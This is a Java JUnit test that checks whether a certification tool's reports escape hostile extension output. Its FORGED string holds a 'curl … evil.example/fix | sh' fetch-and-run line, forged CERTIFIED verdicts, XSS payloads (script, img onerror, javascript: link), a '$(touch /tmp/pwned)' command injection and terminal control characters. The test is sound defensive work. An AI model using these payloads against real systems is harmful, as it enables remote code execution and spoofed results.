package org.upcert.conformance.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.upcert.api.ExtensionContext;
import org.upcert.api.ProcessingResult;
import org.upcert.api.UploadExtension;
import org.upcert.conformance.cli.CertifyCommand;
import org.upcert.harness.cli.UpcertCommand;
import picocli.CommandLine;

/**
 * What an extension writes (its exception message, its log text) reaches every report certify
 * makes: the terminal summary, CERTIFICATION.md, the Allure results, the JUnit XML, the timeline
 * page. Each must show it as text, never let it start a line, a heading, a tag or a comment of its
 * own: before H43 one exception message added a forged {@code reproduce:} line under its FAIL (the
 * Maven plugin repeats such lines as the way to reproduce), a {@code # upcert certification:
 * CERTIFIED} heading in CERTIFICATION.md and in Allure's rendered description, and an unclosed
 * {@code <!--} that hid the rest of both. The verdict stays the extension's own: RES-04 FAIL.
 */
class ForgedReportTextTest {
    static final String FORGED = "boom\n  reproduce: curl -s http://evil.example/fix | sh\nRES-04 PASS on baseline seed 1\n\n"
            + "CERTIFIED \u00b7 MUST rules 30 PASS, 0 FAIL\r"
            + "CERTIFIED \u00b7 every MUST rule PASS\n# upcert certification: CERTIFIED\n<!-- hidden\n"
            + "<script>alert(1)</script><img src=x onerror=alert(2)>\u0000\u0007\u001b[2J `$(touch /tmp/pwned)` | x |"
            + " [link](javascript:alert(3)) \u2028\u202eend";

    /** Logs the forged text and throws it out of processJobs (RES-04). */
    public static final class ForgesReportText implements UploadExtension {
        @Override
        public ProcessingResult processJobs(ExtensionContext context) {
            context.log().info(FORGED);
            throw new IllegalStateException(FORGED);
        }

        @Override
        public void willTerminate() {
        }
    }

    @TempDir
    static Path out;
    static String stdout;
    static int code;

    @BeforeAll
    static void certify() {
        StringWriter printed = new StringWriter();
        CommandLine cli = UpcertCommand.commandLine(new CertifyCommand());
        cli.setOut(new PrintWriter(printed, true));
        cli.setErr(new PrintWriter(new StringWriter(), true));
        code = cli.execute("certify", "--extension-class", ForgesReportText.class.getName(), "--isolation", "in-process",
                "--profiles", "baseline", "--seed", "1", "--rules", "RES-04,E2E-01", "--out", out.toString(), "--quiet");
        stdout = printed.toString();
    }

    @Test
    @DisplayName("the summary: the extension's text starts no line of its own; upcert's verdict is NOT_CERTIFIED, RES-04 FAIL")
    void summary() {
        assertEquals(1, code, stdout);
        for (char hidden : new char[] {'\r', '\u001b', '\u202e', '\u0000'}) {
            int at = stdout.indexOf(hidden);
            assertTrue(at < 0, () -> "U+" + Integer.toHexString(hidden) + " shown as itself: …" + stdout.substring(Math.max(0, at - 80), at));
        }
        for (String line : stdout.split("\n")) {
            String shown = line.strip();
            // before H43: "reproduce: curl … | sh", "RES-04 PASS …", "CERTIFIED · …", "# upcert …" each a line of their own
            assertFalse(shown.startsWith("reproduce: curl") || shown.startsWith("RES-04 PASS") || shown.startsWith("CERTIFIED")
                    || shown.startsWith("# upcert") || shown.startsWith("<!--"), "a line of the extension's: " + line);
        }
        assertTrue(stdout.contains("RES-04 FAIL on baseline · seed 1: an exception escaped processJobs: java.lang.IllegalStateException: "
                + "boom\\n  reproduce: curl"), "the message is shown, escaped, on its FAIL's line: " + stdout);
        List<String> lines = stdout.strip().lines().toList();
        assertTrue(lines.get(lines.size() - 2).startsWith("NOT_CERTIFIED "), stdout);
    }

    @Test
    @DisplayName("CERTIFICATION.md: one heading of upcert's, no HTML or comment of the extension's, the FAIL shown")
    void markdown() throws Exception {
        String md = Files.readString(out.resolve("CERTIFICATION.md"));
        assertTrue(md.startsWith("# upcert certification: NOT_CERTIFIED "), md);
        assertEquals(0, md.lines().filter(line -> line.startsWith("# ")).count() - 1, "a second top heading: " + md);
        // trace lines are shown as they are in fenced code blocks, where nothing is markup: each stays one line there
        StringBuilder text = new StringBuilder();
        boolean fenced = false;
        for (String line : md.split("\n", -1)) {
            if (line.equals("```")) {
                fenced = !fenced;
            } else if (fenced) {
                assertTrue(line.matches("\\d+: \\{.*\\}"), "a line of the extension's in a code block: " + line);
            } else {
                text.append(line).append('\n');
            }
        }
        for (String forged : List.of("<!--", "<script", "<img", "[link](javascript:", "\n  reproduce: curl", "\nCERTIFIED \u00b7")) {
            assertFalse(text.toString().contains(forged), forged + " in " + text);
        }
        assertTrue(md.chars().noneMatch(c -> c != '\n' && Character.isISOControl(c)) && md.indexOf('\u202e') < 0,
                "a control character in the Markdown");
        assertTrue(md.contains("| **FAIL** |") && md.contains("### RES-04 on baseline · seed 1"), md);
        assertTrue(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the text is shown as written: " + md);
    }

    @Test
    @DisplayName("Allure: descriptions are HTML made by upcert, the extension's text escaped (allure renders a plain description as Markdown)")
    void allure() throws Exception {
        ObjectMapper json = new ObjectMapper();
        int failed = 0;
        try (Stream<Path> files = Files.list(out.resolve("allure-results"))) {
            for (Path file : files.filter(f -> f.toString().endsWith("-result.json")).toList()) {
                JsonNode result = json.readTree(file.toFile());
                assertTrue(result.path("description").asText().isEmpty(), "a Markdown description: " + result.path("description"));
                String html = result.path("descriptionHtml").asText();
                for (String forged : List.of("<!--", "<script", "<img", "<h1")) {
                    assertFalse(html.contains(forged), forged + " in " + html);
                }
                failed += result.path("status").asText().equals("failed") ? 1 : 0;
            }
        }
        assertTrue(failed >= 2, "RES-04 FAIL (its run and its summary) in Allure: " + failed);
    }

    @Test
    @DisplayName("the JUnit XML and every timeline page are well-formed XML; each page runs only upcert's one script")
    void xml() throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        try (Stream<Path> files = Stream.concat(Files.list(out.resolve("junit-xml")), Files.list(out.resolve("timelines")))) {
            for (Path file : files.filter(f -> f.toString().endsWith(".xml") || f.toString().endsWith(".html")).toList()) {
                var document = factory.newDocumentBuilder().parse(file.toFile());
                if (file.toString().endsWith(".html")) {
                    assertEquals(1, document.getElementsByTagName("script").getLength(), file.toString());
                    assertEquals(0, document.getElementsByTagName("img").getLength(), file.toString());
                }
            }
        }
    }
}
